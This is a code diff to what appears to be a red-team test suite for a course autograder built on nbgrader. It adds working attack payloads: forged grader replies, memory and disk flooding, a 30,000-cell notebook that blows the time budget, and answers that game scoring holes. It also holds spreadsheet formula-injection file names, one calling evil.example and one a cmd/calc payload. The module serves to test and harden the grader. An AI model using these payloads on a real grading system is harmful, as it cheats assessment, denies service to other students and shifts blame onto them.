@@ -12,7 +12,29 @@ placements as in :func:`attacks.attack_notebook`); :data:`PLANTS` are hand-ins
 that put something beside the notebook in ``submitted/<student>/<assignment>/``
 (``{name: plant(course, folder)}``).  :data:`CONTEST` are contest entries
 (``{name: {file name: source}}``) for a folder of submissions of
-``advsearch contest``.
+``advsearch contest``.  :data:`NOTEBOOK_EDITS` change the notebook's JSON (cell
+metadata, Markdown cells) where placements cannot.
+
+What each did when tried (2026-11-26, kept round-trip course of ps1, budget 60 s; ps2 on the runner):
+
+- worked (scored): ``blind_pruned_paths`` 0.71/2 and ``blind_pruned_subtree`` 0.33/2 (one fixed answer for
+  everyone; 0.39/2 on average over 200 students); ``blind_values_max_leaf`` 1.0/2 and ``blind_values_median``
+  0.22/2 (no minimax); ``originality_call_count`` 12/12 on ps2 (the package's connect4_eval);
+  ``plant_backdated_timestamp`` (0 s late where the true clock was 28,474,600 s late).
+- worked (harm or blame): ``forged_reply_*`` (nbgrader fails the notebook, or "the grader failed");
+  ``metadata_answer_schema`` (ends ``nbgrader autograde ps1`` for every later student);
+  ``display_update_flood`` (20 MB autograded notebook from 4 lines); ``comm_state_flood`` (the grading
+  process holds 400 MB more); ``many_cells`` (145 s for a 60 s budget, 10.4 MB notebook);
+  ``html_script_output``, ``markdown_script``, ``graded_markdown_script`` (scripts in feedback and formgrader
+  HTML); ``plant_formula_notebook*`` (grades.csv reasons starting with =, @, +); ``plant_newline_notebook``
+  (escape codes in ``advsearch grading report``); ``contest_forged_move``, ``contest_forged_load`` (the whole
+  contest stops); ``contest_formula_names`` (contest CSVs); ``contest_fills_disk`` (host disk);
+  ``bundled_wheels`` (pip and setuptools import in the stdlib-only runner; nothing to borrow there).
+- defended: ``forged_reply_deep``, ``forged_ask``, ``pruned_odd_types``, ``read_grader_random``,
+  ``metadata_schema_bomb``, ``metadata_schema_old``, ``answer_made_grade`` (the student's own notebook fails
+  only), ``plant_bad_timestamp``, ``plant_huge_timestamp`` (graded, nothing else), ``plant_claims_record``
+  (suspicious), ``plant_hidden_notebook``, ``borrow_connect4_eval*`` (refused by the originality check),
+  ``contest_cpu_hog`` (autogroup scheduling).
 """
 
 from __future__ import annotations
@@ -37,6 +59,20 @@ def _forge(forged: str) -> str:
     return _FORGE.replace("{FORGED}", forged)
 
 
+def _leaves(n):
+    return [n] if not n.children else [leaf for c in n.children for leaf in _leaves(c)]
+
+
+def _blind_values(how: str, student: str) -> str:
+    """A by-hand values answer for ``student``'s ps1 tree that does no minimax: each inner node gets the
+    largest (or the median) leaf below it, read off the tree the notebook shows."""
+    from advsearch import grading
+    pick = {"max_leaf": lambda n: max(leaf.value for leaf in _leaves(n)),
+            "median": lambda n: sorted(leaf.value for leaf in _leaves(n))[len(_leaves(n)) // 2]}[how]
+    tree = grading.problems("ps1", student).minimax.tree
+    return "values_answer = " + repr({n.label: pick(n) for n in tree.nodes() if n.children})
+
+
 #: name -> (kind, assignments, {placement: source}), as attacks.ATTACKS.
 ATTACKS = {
     # ---------------------------------------------------------- blame: the referee's unpacking trusts the shape
@@ -56,6 +92,14 @@ ATTACKS = {
     # TypeError ends TrustedGrades.preprocess, and nbgrader fails the whole notebook ("not graded").
     "forged_reply_student_id": ("blame", ("ps1", "ps3", "ps4"), {
         "first": _forge('{"list": 5}') + "STUDENT_ID = 'anyone'\n"}),
+    # Forged only for dicts (STUDENT_ID, a str, is sent as it is): the notebook is graded, and q1 is flagged
+    # "the grader failed ... will grade it by hand" for the student's own forgery.
+    "forged_reply_dicts_only": ("blame", ("ps1",), {"first": '''
+import sys
+_runner = sys.modules["__main__"]
+_pack = _runner.pack
+_runner.pack = lambda x, depth=0: {"list": 5} if isinstance(x, dict) else _pack(x, depth)
+''', "answer:q1_answer": "values_answer = {'A': 1}"}),
     # Nested past the recursion limit: json.loads fails first (a ProtocolError, the student's fault).  Defended.
     "forged_reply_deep": ("blame", ("ps1",), {"first": '''
 import json
@@ -82,6 +126,14 @@ def minimax(game, state):
     # on average, something for 49% of them, 1.0 for 27%.
     "blind_pruned_paths": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = [[1, 1], [1, 2]]"}),
     "blind_pruned_subtree": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = [[1, 1]]"}),
+    # Blind by-hand values, written for the round trip's student "attack_<name>": the largest leaf below each
+    # node earns 2 of 4 for attack_blind_values_max_leaf (the report credits A as following from the values
+    # below), 1.2 of 4 on average over 60 seeded students, something for 50 of them; the median leaf 0.44 here
+    # and 0.66 on average.  The blind baseline (blind.py) knows one number, the first and the last leaf only.
+    "blind_values_max_leaf": ("scoring hole", ("ps1",), {
+        "answer:q1_answer": _blind_values("max_leaf", "attack_blind_values_max_leaf")}),
+    "blind_values_median": ("scoring hole", ("ps1",), {
+        "answer:q1_answer": _blind_values("median", "attack_blind_values_median")}),
     # A by-hand answer of another type than asked: a str, an int, a dict, nested lists.
     "pruned_odd_types": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = 'c3 d2 d3'"}),
     # ---------------------------------------------------------- ps2: the package's own evaluation
@@ -159,6 +211,18 @@ for _ in range(200):
     display({"text/plain": "."}, raw=True, display_id="flood")
 update_display({"text/plain": "x" * 100_000}, raw=True, display_id="flood")
 '''}),
+    # nbclient keeps every comm's widget state (handle_comm_msg: widget_state[comm_id].update(state)) in the
+    # grading process, whatever its size and however many comms; SandboxedExecute.output never sees them.
+    # ClearMetadataPreprocessor drops them from the notebook afterwards, but the instructor's nbgrader process
+    # holds them all until the notebook is done: 300 comms of 1 MB here, any number within the budget.
+    "comm_state_flood": ("shared budget", ("ps1",), {"last": '''
+from IPython import get_ipython
+k = get_ipython().kernel
+parent = k.get_parent("shell") if hasattr(k, "get_parent") else k._parent_header
+for i in range(300):
+    k.session.send(k.iopub_socket, "comm_msg", {"comm_id": f"flood{i}", "data": {"state": {"blob": "y" * 1_000_000}}},
+                   parent=parent)
+'''}),
     # ---------------------------------------------------------- nbgrader's own checks stop the whole batch
     # nbgrader's convert_notebooks re-raises SchemaTooNewError/SchemaTooOldError as NbGraderException, which
     # ends `nbgrader autograde ps1` for every student after this one (see PLANTS-free placement below:
@@ -220,6 +284,17 @@ def _answer_made_grade(nb):
     return nb
 
 
+def _many_cells(nb):
+    """30,000 one-character code cells (4.4 MB, under the 5 MiB notebook cap; 40,000 are refused): each costs the kernel a round
+    trip, and once the budget is used up each still gets a note, which no output cap counts."""
+    import nbformat
+    for i in range(30_000):
+        cell = nbformat.v4.new_code_cell("1")
+        cell["id"] = f"c{i:07d}"
+        nb.cells.append(cell)
+    return nb
+
+
 #: name -> (kind, assignments, edit(notebook) -> notebook): edits of the released notebook's JSON that the
 #: placements of :data:`ATTACKS` cannot express (cell metadata).
 NOTEBOOK_EDITS = {
@@ -227,6 +302,7 @@ NOTEBOOK_EDITS = {
     "metadata_schema_old": ("stops the batch", ("ps1",), _schema_old),
     "metadata_answer_schema": ("stops the batch", ("ps1",), _answer_cell_schema),
     "answer_made_grade": ("blame", ("ps1",), _answer_made_grade),
+    "many_cells": ("cost", ("ps1",), _many_cells),
     "markdown_script": ("html", ("ps1", "ps3", "ps4"), _markdown_script),
     "graded_markdown_script": ("html", ("ps1", "ps3", "ps4"), _graded_markdown_script),
 }
@@ -309,6 +385,22 @@ def agent(game, state):
     "contest_formula_names": {
         '=HYPERLINK("http:evil.example","x").py': "def agent(game, state):\n    raise ValueError('boom')\n",
         "@SUM(1+1)*cmd|' \\C calc'!A0.py": "def agent(game, state):\n    return game.actions(state)[-1]\n"},
+    # The agent's working folder is its private copy under the host's /tmp, bound read-write: not a
+    # memory-backed folder of disk_mb like autograding's scratch.  Files are capped at 16 MiB each, but
+    # not their number: 25 x 8 MiB landed on the host's disk here (201 MB in /tmp/advsearch-agent-*), and
+    # nothing stops 16 MiB files until the disk is full while its games last.
+    "contest_fills_disk": {"mallory.py": '''
+import os, time
+_done = []
+def agent(game, state):
+    if not _done:
+        _done.append(1)
+        for i in range(25):
+            with open(f"fill{i}.bin", "wb") as f:
+                f.write(b"\\0" * (8 << 20))
+        time.sleep(1.5)
+    return game.actions(state)[0]
+'''},
     # CPU-bound children left running while the opponent thinks (the time per move is wall time).  Fails
     # here: each sandbox is a session of its own (--new-session), so the kernel's autogroup scheduling gives
     # it one share of the CPU; a host with kernel.sched_autogroup_enabled=0 has no such defence.
